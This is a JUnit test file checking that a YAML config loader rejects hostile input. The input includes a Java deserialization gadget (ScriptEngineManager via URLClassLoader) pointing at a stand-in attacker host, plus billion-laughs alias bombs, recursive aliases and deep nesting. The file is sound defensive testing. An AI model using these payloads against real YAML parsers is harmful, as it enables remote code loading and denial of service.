package io.pgwarden.core.config;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/** Configuration text written by someone who wants the loader to build objects, run out of memory or hang. */
@Timeout(10)
class HostileYamlTest {

    private static final String VALID_TAIL = """
            backends: { a: { host: h } }
            auth: { rules: [ { method: trust } ] }
            """;

    @TempDir
    Path dir;

    private List<String> problemsOf(String yaml) {
        try {
            ConfigLoader.parse(yaml, dir, Map.<String, String>of()::get);
        } catch (ConfigException e) {
            return e.problems();
        }
        throw new AssertionError("expected the configuration to be refused");
    }

    @Test
    void javaTypeTagIsRefusedNotConstructed() {
        List<String> problems = problemsOf("""
                plugins:
                  - type: x
                    engine: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.invalid/"]]]]
                """ + VALID_TAIL);
        assertThat(problems).isNotEmpty().allSatisfy(problem -> assertThat(problem).contains("YAML tags are not allowed"));
        assertThat(problems.get(0)).startsWith("line 3, column 13: YAML tags are not allowed (found 'tag:yaml.org,2002:javax.script.ScriptEngineManager')");
    }

    @Test
    void standardAndLocalTagsAreRefusedToo() {
        assertThat(problemsOf("listen: { host: !!binary aGVsbG8= , port: !custom 1 }\n" + VALID_TAIL))
                .hasSize(2).allSatisfy(problem -> assertThat(problem).contains("YAML tags are not allowed"));
        assertThat(problemsOf("listen: !!set { a, b }\n" + VALID_TAIL)).hasSize(1);
    }

    @Test
    void billionLaughsIsRefused() {
        StringBuilder yaml = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 10; i++) {
            yaml.append("a").append(i).append(": &a").append(i).append(" [");
            for (int j = 0; j < 10; j++) {
                yaml.append(j == 0 ? "" : ", ").append("*a").append(i - 1);
            }
            yaml.append("]\n");
        }
        List<String> problems = problemsOf(yaml + VALID_TAIL);
        assertThat(problems).hasSize(1);
        assertThat(problems.get(0)).contains("Number of aliases for non-scalar nodes exceeds the specified max=20");
    }

    @Test
    void aliasExpansionWithinTheAliasLimitIsStillBounded() {
        StringBuilder yaml = new StringBuilder("plugins:\n  - type: t\n    l0: &l0 [x, x, x, x, x, x, x, x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 6; i++) {
            yaml.append("    l").append(i).append(": &l").append(i).append(" [*l").append(i - 1)
                    .append(", *l").append(i - 1).append(", *l").append(i - 1).append("]\n");
        }
        yaml.append("    bomb: [");
        for (int j = 0; j < 5; j++) {
            yaml.append(j == 0 ? "" : ", ").append("*l5");
        }
        yaml.append("]\n");
        // 16 * 3^5 * 5 = 19440 values from 20 aliases: inside the budget, so the document is accepted
        assertThat(ConfigLoader.parse(yaml + VALID_TAIL, dir, Map.<String, String>of()::get).plugins()).hasSize(1);
        StringBuilder many = new StringBuilder("plugins:\n  - type: t\n    l0: &l0 [" + "x, ".repeat(199) + "x]\n");
        for (int i = 1; i < 10; i++) {
            many.append("    l").append(i).append(": &l").append(i).append(" [*l").append(i - 1)
                    .append(", *l").append(i - 1).append("]\n");
        }
        // 18 aliases, but l9 alone expands to 200 * 2^9 = 102400 values: over the budget
        List<String> problems = problemsOf(many + VALID_TAIL);
        assertThat(problems).hasSize(1);
        assertThat(problems.get(0)).contains("expand to more than 100000 values");
    }

    @Test
    void recursiveAliasIsRefused() {
        assertThat(problemsOf("plugins: [ { type: t, loop: &loop [ *loop ] } ]\n" + VALID_TAIL)).containsExactly(
                "plugins[0].loop: the plugin settings expand to more than 100000 values or nest deeper than 40 (too many aliases?)");
    }

    @Test
    void deepNestingIsRefused() {
        String deep = "[".repeat(1000) + "]".repeat(1000);
        List<String> problems = problemsOf("plugins: [ { type: t, deep: " + deep + " } ]\n" + VALID_TAIL);
        assertThat(problems).hasSize(1);
        assertThat(problems.get(0)).containsIgnoringCase("nesting depth");
    }

    @Test
    void hugeDocumentIsRefusedBeforeParsing() {
        String huge = "# " + "x".repeat(YamlDocument.MAX_CHARACTERS) + "\n" + VALID_TAIL;
        assertThat(problemsOf(huge)).containsExactly(
                "(document): the configuration is larger than " + YamlDocument.MAX_CHARACTERS + " characters");
    }

    @Test
    void nonTextKeysAreRefused() {
        assertThat(problemsOf("? [a, b]\n: 1\n~: 2\n" + VALID_TAIL)).containsExactly(
                "(document): keys must be text, found a list",
                "(document): keys must be text, found nothing");
        assertThat(problemsOf("plugins: [ { type: t, ? { k: v } : 1 } ]\n" + VALID_TAIL))
                .containsExactly("plugins[0]: keys must be text, found a map");
    }

    @Test
    void mergeKeysAreRefused() {
        assertThat(problemsOf("""
                base: &base { host: h }
                backends: { a: { <<: *base } }
                auth: { rules: [ { method: trust } ] }
                """)).contains("backends.a: merge keys (<<) are not supported; write the keys out");
    }

    @Test
    void severalDocumentsAreRefused() {
        assertThat(problemsOf(VALID_TAIL + "---\n" + VALID_TAIL)).hasSize(1)
                .allSatisfy(problem -> assertThat(problem).contains("expected a single document"));
    }

    @Test
    void overflowingNumbersAreProblemsNotCrashes() {
        assertThat(problemsOf(VALID_TAIL + """
                limits: { max_message_size: 99999999999GiB, auth_timeout: 9999999999999s, max_client_connections: 1e9 }
                """)).containsExactly(
                "limits.max_message_size: expected a size from 1KiB to 1GiB, found '99999999999GiB'",
                "limits.auth_timeout: expected a duration like 500ms, 10s, 5m or 1h, found '9999999999999s'",
                "limits.max_client_connections: expected a number of connections 1-1000000, found '1e9'");
    }

    @Test
    void longValuesAreShortenedInMessages() {
        String problem = problemsOf("backends: { a: { host: h, port: " + "9".repeat(500) + " } }\nauth: { rules: [ { method: trust } ] }\n").get(0);
        assertThat(problem.length()).isLessThan(150);
    }

    @Test
    void controlCharactersAreRefused() {
        assertThat(problemsOf("backends: { a: { host: \"h\u0000\" } }\n" + VALID_TAIL.substring(VALID_TAIL.indexOf('\n') + 1)))
                .containsExactly("(document): character U+0000 at position 25 is not allowed in YAML");
    }

    @Test
    void validDocumentStillLoadsWithTheSameLoader() {
        assertThat(ConfigLoader.parse(VALID_TAIL + "limits: { auth_timeout: 2s }\n", dir).limits().authTimeout())
                .isEqualTo(Duration.ofSeconds(2));
    }
}
